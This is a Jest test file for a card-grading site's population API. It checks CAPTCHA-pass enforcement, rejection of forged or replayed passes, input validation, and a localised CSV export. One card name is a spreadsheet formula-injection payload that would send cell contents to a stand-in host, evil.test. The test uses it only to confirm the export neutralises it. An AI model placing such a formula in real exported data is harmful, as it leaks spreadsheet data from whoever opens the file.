/** @jest-environment node */
// The population routes behind the CAPTCHA pass (issue #22; docs/product/certificates.md#captcha,
// docs/product/certificates.md#population-report): without a pass — or with a forged, expired or spent one — every route
// answers 400 "CAPTCHA required" and reads nothing; a solved proof of work buys a pass once (a replay is refused) as an
// httpOnly cookie for /api/population; with it the search, a card's history and the CSV answer. The CSV: UTF-8 with a
// byte order mark, RFC 4180, the header in the page's language, names that would run as formulas neutralised.
import { newPass, PASS_CALLS, PASS_COOKIE, PASS_SECONDS, requirePass, verifyPass } from '@/lib/server/population/population-pass';
import { issuePopulationPass } from '@/lib/server/population/issue-population-pass';
import { POPULATION_GRADES } from '@/lib/shared/certificates/population';
import type { PopulationHistoryView, PopulationPageView } from '@/lib/shared/certificates/population-report';
import { POPULATION_ERRORS } from '@/lib/shared/schemas/population';
import historyRoute from '@/pages/api/population/cards/[id]/history';
import exportRoute from '@/pages/api/population/export.csv';
import passRoute from '@/pages/api/population/pass';
import searchRoute from '@/pages/api/population/search';
import { callApi } from '@/tests/helpers/api';
import { solvedCaptcha } from '@/tests/helpers/captcha';
import { createTestDb, type TestDb } from '@/tests/helpers/test-db';
import { getRoute, insertCard, obtainPass, type RawAnswer } from './population-helpers';

let testDb: TestDb;
let charizard: number;
const HOSTILE_NAME = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")';

beforeAll(async () => {
  testDb = await createTestDb();
  const base = { cardCategory: 'POKEMON', year: 1999, brand: 'Wizards of the Coast', setName: 'Base Set' } as const;
  charizard = await insertCard(testDb.db, { ...base, cardNumber: '4/102', playerName: 'Charizard', counts: { '10': 2, '9': 5, A: 1 } });
  await insertCard(testDb.db, { ...base, cardNumber: '58/102', playerName: 'Pikachu', counts: { '9': 4 } });
  await insertCard(testDb.db, { ...base, cardNumber: '99/102', playerName: HOSTILE_NAME, counts: { '8': 1 } });
  await insertCard(testDb.db, { ...base, setName: '-Promo, "Black Star"', cardNumber: '@1', playerName: '噴火龍 리자몽', counts: { '7': 1 } });
}, 60_000);
afterAll(() => testDb.close());

const captchaRequired = (answer: RawAnswer) => [answer.status, answer.json?.code, answer.json?.message, answer.json?.key];
const REFUSED = [400, 'CAPTCHA_REQUIRED', 'CAPTCHA required', 'errors:captchaRequired'];

test('without a pass every route answers "CAPTCHA required", and reads nothing', async () => {
  const reads = jest.spyOn(testDb.db, '$queryRaw');
  expect(captchaRequired(await getRoute(searchRoute, { name: 'charizard' }))).toEqual(REFUSED);
  expect(captchaRequired(await getRoute(exportRoute, { name: 'charizard' }))).toEqual(REFUSED);
  expect(captchaRequired(await getRoute(historyRoute, { id: String(charizard) }))).toEqual(REFUSED);
  // Huge or hostile values are refused by the shared schema first, pass or not: 400 naming the field.
  const hostile = await getRoute(searchRoute, { name: 'x'.repeat(100_000), year: '9'.repeat(500), page: '-1' });
  expect([hostile.status, hostile.json?.code, hostile.json?.errors?.map((error) => error.path).sort()]).toEqual([400, 'VALIDATION', ['name', 'page', 'year']]);
  expect(reads).not.toHaveBeenCalled();
  // (The spy does see the search's statements once a pass comes with it.)
  expect((await getRoute(searchRoute, { name: 'charizard' }, (await obtainPass()).token)).status).toBe(200);
  expect(reads).toHaveBeenCalled();
  reads.mockRestore();
});

test('a forged, altered, expired or spent pass is refused the same way', async () => {
  const now = new Date();
  const genuine = newPass(now).token;
  const [until, id, signature] = genuine.split('.') as [string, string, string];
  const forged = [
    'anything',
    `${until}.${id}`,
    `${until}.${id}.${signature}.extra`,
    `${Number(until) + 60_000}.${id}.${signature}`,
    `${until}.${id}x.${signature}`,
    `${until}.${id}.${signature.slice(0, -1)}${signature.endsWith('A') ? 'B' : 'A'}`,
    'x'.repeat(5_000),
  ];
  for (const token of forged) {
    expect(verifyPass(token, now)).toBeNull();
    expect(captchaRequired(await getRoute(searchRoute, { name: 'charizard' }, token))).toEqual(REFUSED);
  }
  expect(verifyPass(genuine, now)).toBe(id);
  // Expired: the same pass a second past its 15 minutes.
  expect(verifyPass(genuine, new Date(now.getTime() + PASS_SECONDS * 1000 + 1000))).toBeNull();
  await expect(requirePass(genuine, new Date(now.getTime() + PASS_SECONDS * 1000))).rejects.toMatchObject({ code: 'CAPTCHA_REQUIRED' });
  // Spent: a pass serves PASS_CALLS calls, then asks for a new proof of work.
  const spent = newPass(now).token;
  for (let call = 0; call < PASS_CALLS; call += 1) await requirePass(spent, now);
  await expect(requirePass(spent, now)).rejects.toMatchObject({ code: 'CAPTCHA_REQUIRED', message: 'CAPTCHA required' });
});

test('a solved proof of work buys a pass once: an httpOnly cookie for /api/population, 15 minutes; a replay is refused', async () => {
  const missing = await callApi(passRoute, { method: 'POST', body: {} });
  expect([missing.status, missing.body.code, missing.body.errors?.map((error) => error.key)]).toEqual([400, 'VALIDATION', [POPULATION_ERRORS.captchaRequired]]);
  const wrong = await callApi(passRoute, { method: 'POST', body: { captcha: 'bm90IGEgc29sdXRpb24=' } });
  expect([wrong.status, wrong.body.code, wrong.body.message]).toEqual([400, 'CAPTCHA_REQUIRED', 'CAPTCHA required']);
  // A solution is bound to its purpose: the login's does not open the population.
  const login = await callApi(passRoute, { method: 'POST', body: { captcha: await solvedCaptcha('login') } });
  expect([login.status, login.body.code]).toEqual([400, 'CAPTCHA_REQUIRED']);

  const captcha = await solvedCaptcha('population');
  const before = Date.now();
  const issued = await callApi<{ expiresAt: string }>(passRoute, { method: 'POST', body: { captcha } });
  expect(issued.status).toBe(200);
  const expiresAt = Date.parse(issued.body.data!.expiresAt);
  expect(expiresAt).toBeGreaterThanOrEqual(before + PASS_SECONDS * 1000);
  expect(expiresAt).toBeLessThanOrEqual(Date.now() + PASS_SECONDS * 1000);
  const [cookie] = issued.setCookies.filter((line) => line.startsWith(`${PASS_COOKIE}=`));
  expect(cookie).toMatch(/; Max-Age=900(;|$)/);
  expect(cookie).toMatch(/; Path=\/api\/population(;|$)/);
  expect(cookie).toMatch(/; HttpOnly(;|$)/);
  expect(cookie).toMatch(/; SameSite=Lax(;|$)/);

  const replay = await callApi(passRoute, { method: 'POST', body: { captcha } });
  expect([replay.status, replay.body.code, replay.body.message]).toEqual([400, 'CAPTCHA_REQUIRED', 'CAPTCHA required']);
});

test('a pass issued more than 15 minutes ago is refused', async () => {
  const longAgo = new Date(Date.now() - (PASS_SECONDS + 1) * 1000);
  const pass = await issuePopulationPass(testDb.db, { captcha: await solvedCaptcha('population') }, longAgo);
  expect(captchaRequired(await getRoute(searchRoute, { name: 'charizard' }, pass.token))).toEqual(REFUSED);
});

test('with a pass: the search (cacheable by this browser only), paging and a card history without asking again', async () => {
  const { token } = await obtainPass();
  const answer = await getRoute(searchRoute, { name: 'char', category: 'POKEMON' }, token);
  expect(answer.status).toBe(200);
  expect(answer.headers['cache-control']).toBe('private, max-age=60');
  const page = answer.json!.data as PopulationPageView;
  expect(page).toMatchObject({ page: 1, pageSize: 50, matches: 1, more: false, nameMatch: 'substring' });
  expect(page.rows[0]).toMatchObject({ id: charizard, total: 8, card: { name: 'Charizard', setName: 'Base Set' } });
  expect(page.rows[0]!.counts.map((cell) => cell.grade)).toEqual(POPULATION_GRADES);
  expect((await getRoute(searchRoute, { set: 'base', page: '2' }, token)).status).toBe(200);

  const history = await getRoute(historyRoute, { id: String(charizard) }, token);
  expect(history.status).toBe(200);
  expect(history.json!.data as PopulationHistoryView).toMatchObject({ cardId: charizard, days: [], now: { total: 8, counts: { '10': 2, '9': 5, A: 1 } } });
  expect((await getRoute(historyRoute, { id: '999999' }, token)).status).toBe(404);
  expect((await getRoute(historyRoute, { id: '1e3' }, token)).json?.code).toBe('VALIDATION');
});

test('the CSV: attachment, UTF-8 with a byte order mark, CRLF rows, header in the page language, formulas neutralised', async () => {
  const { token } = await obtainPass();
  const csv = await getRoute(exportRoute, { set: 'base set', lang: 'en' }, token);
  expect(csv.status).toBe(200);
  expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="cardgrade-population-\d{4}-\d{2}-\d{2}\.csv"$/);
  expect(csv.text.startsWith('\uFEFF')).toBe(true);
  const lines = csv.text.slice(1).split('\r\n');
  expect(lines.at(-1)).toBe('');
  expect(lines[0]).toBe(`Category,Year,Brand,Set,Card number,Card or player name,${POPULATION_GRADES.join(',')},Total,Last changed`);
  expect(lines.slice(1, -1).map((line) => line.split(',')[5])).toEqual(['Charizard', 'Pikachu', `"'=HYPERLINK(""http://evil.test/?leak=""&A1`]);
  expect(lines[1]).toMatch(/^Pokémon,1999,Wizards of the Coast,Base Set,4\/102,Charizard,2,5,0,0,0,0,0,0,0,0,0,0,1,8,\d{4}-\d{2}-\d{2}$/);
  expect(lines[3]).toContain(`"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")"`);

  const korean = await getRoute(exportRoute, { name: '리자몽', lang: 'ko' }, token);
  const [header, row] = korean.text.slice(1).split('\r\n');
  expect(header).toMatch(/^카테고리,연도,브랜드,세트,카드 번호,카드명 또는 선수명,10,/);
  expect(row).toMatch(/^포켓몬,1999,Wizards of the Coast,"'-Promo, ""Black Star""",'@1,噴火龍 리자몽,/);
  // zh-TW when no language is given.
  expect((await getRoute(exportRoute, { name: 'pikachu' }, token)).text.slice(1)).toMatch(/^類別,年份,/);
  expect(captchaRequired(await getRoute(exportRoute, { name: 'pikachu' }))).toEqual(REFUSED);
});
